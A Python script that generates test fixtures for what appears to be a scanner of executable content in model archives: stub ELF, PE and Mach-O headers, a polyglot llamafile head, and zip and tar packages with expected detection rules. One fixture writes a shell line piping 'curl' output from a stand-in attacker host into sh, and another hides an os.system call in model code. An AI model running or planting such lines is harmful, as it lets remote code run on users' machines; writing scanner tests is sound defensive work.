#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write the executable-content fixtures of this folder and expected.tsv.

Native binaries are reduced to the headers a loader checks first (ELF, PE, Mach-O, an
Actually Portable Executable as llamafile uses), enough for content recognition; scripts and
source files sit inside model archives the way they turn up in real packages.
Run from anywhere: python3 gen-exec.py [OUTDIR]
"""
import io
import os
import shutil
import struct
import sys
import tarfile
import zipfile

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
rows = []

ELF = (b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + struct.pack("<HHI", 3, 0x3e, 1) +
       b"\0" * 40 + b"\0" * 64)
PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x40) + b"PE\0\0" + struct.pack("<H", 0x8664) + \
    b"\0" * 64
MACHO = struct.pack("<IiiI", 0xfeedfacf, 0x01000007, 3, 6) + b"\0" * 64
SCRIPT = b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
PYSRC = b"import os\n\ndef load(path):\n    os.system('id')\n"
GGUF = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)


def member(name, compress):
    """A zip member as ZipFile.writestr(name) makes it, with a fixed date so that a rerun
    writes the same bytes."""
    info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
    info.external_attr = 0o600 << 16
    info.compress_type = compress
    return info


def ape(with_gguf):
    """An APE head ("MZqFpD='" opens both a PE and a shell script) then a zip of weights."""
    head = b"MZqFpD='\n\n\x00" + b"\0" * (0x3c - 11) + struct.pack("<I", 0x40) + b"PE\0\0" + \
        struct.pack("<H", 0x8664) + b"\0" * 200 + b"'\nexec \"$0\" \"$@\"\n"
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(member("model.gguf" if with_gguf else "readme.txt", zipfile.ZIP_STORED),
                    GGUF + b"\0" * 40 if with_gguf else b"hello\n")
    return head + b"\0" * 64 + z.getvalue()


def write(name, blob, rules):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(blob)
    rows.append((name, rules))


def zipped(name, members, rules):
    with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in members.items():
            z.writestr(member(n, zipfile.ZIP_DEFLATED), data)
    rows.append((name, rules))


def zero_gzip_mtime(path):
    """gzip records when it ran (bytes 4-7 of its header); zero, as gzip -n writes."""
    with open(path, "r+b") as f:
        f.seek(4)
        f.write(b"\0\0\0\0")


def tarred(name, members, rules):
    with tarfile.open(os.path.join(OUT, name), "w:gz") as t:
        for n, data in members.items():
            info = tarfile.TarInfo(n)
            info.size = len(data)
            info.mode = 0o755
            t.addfile(info, io.BytesIO(data))
    zero_gzip_mtime(os.path.join(OUT, name))
    rows.append((name, rules))


CONFIG = b'{"architectures": ["LlamaForCausalLM"], "hidden_size": 64}\n'
README = b"# A model\n\nWeights in model.safetensors.\n"

# ---- benign ----
zipped("ok_package.zip", {"config.json": CONFIG, "README.md": README,
                          "tokenizer.model": b"\x0a\x05hello"}, "-")
write("llamafile_ok.llamafile", ape(True), "info:exec.llamafile")

# ---- hostile ----
zipped("elf_in_zip.zip", {"config.json": CONFIG, "libcustom_ops.so": ELF}, "exec.binary")
write("native_top.so", ELF, "exec.binary")
tarred("pe_in_tar.tar.gz", {"model/README.md": README, "model/setup.exe": PE}, "exec.binary")
zipped("macho_in_zip.zip", {"lib/libtok.dylib": MACHO}, "exec.binary")
write("install.sh", SCRIPT, "exec.script")
zipped("script_in_zip.zip", {"run": SCRIPT}, "exec.script")
zipped("python_in_zip.zip", {"config.json": CONFIG, "modeling_custom.py": PYSRC},
       "exec.code.member")
tarred("shell_in_tar.tar.gz", {"model/postinstall.sh": b"echo hi\n"}, "exec.code.member")
write("ape_without_gguf.com", ape(False), "exec.binary")

with open(os.path.join(OUT, "expected.tsv"), "w") as f:
    f.write("# fixture\texpected rules (comma-separated), or - for nothing above info;\n"
            "# a leading info: asks for the rules and nothing above info\n")
    for name, rules in rows:
        f.write("%s\t%s\n" % (name, rules))
